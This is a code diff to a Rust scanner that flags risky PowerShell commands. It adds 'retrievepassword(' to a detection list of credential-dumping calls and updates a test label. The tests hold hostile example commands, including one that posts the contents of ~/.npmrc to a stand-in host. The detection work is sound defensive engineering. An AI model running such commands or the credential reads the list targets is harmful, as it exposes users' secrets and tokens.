@@ -29,7 +29,7 @@ pub(super) fn scan(shell: &mut Shell<'_, '_>, text: &str, field: &Field) {
         let history = Word::known("~/.local/share/powershell/PSReadLine/ConsoleHost_history.txt");
         shell.read_file(&Field::new(history, field.span.clone()), Access::Content);
     }
-    let prints = ["getnetworkcredential(", "::getenvironmentvariables("];
+    let prints = ["getnetworkcredential(", "::getenvironmentvariables(", "retrievepassword("];
     if prints.iter().any(|call| lower.contains(call)) {
         marked(shell, field, "get-credential");
     }
@@ -1003,7 +1003,7 @@ mod tests {
             ("& $program", "opaque program"),
             (
                 "irm -Headers @{Metadata='true'; A=\"b\"} -Uri https://h.example/x",
-                "fetches h.example",
+                "fetches h.example:443",
             ),
             ("irm -Method Post -Body @{a=(gc ~/.npmrc)} https://h.example", "reads ~/.npmrc"),
         ] {
